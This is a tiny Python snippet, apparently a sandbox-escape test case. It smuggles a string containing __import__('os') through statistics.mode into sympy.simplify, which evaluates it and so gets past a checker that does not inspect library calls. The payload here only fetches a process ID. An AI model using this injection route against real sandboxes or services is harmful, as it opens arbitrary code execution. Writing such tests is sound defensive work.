# MadeTexts::reachLibrary: what statistics/numpy/... functions are given is not looked at: statistics.mode([text]) gives it back
import sympy
import statistics
print(sympy.simplify(statistics.mode(["__import__('os').getpid()"])))
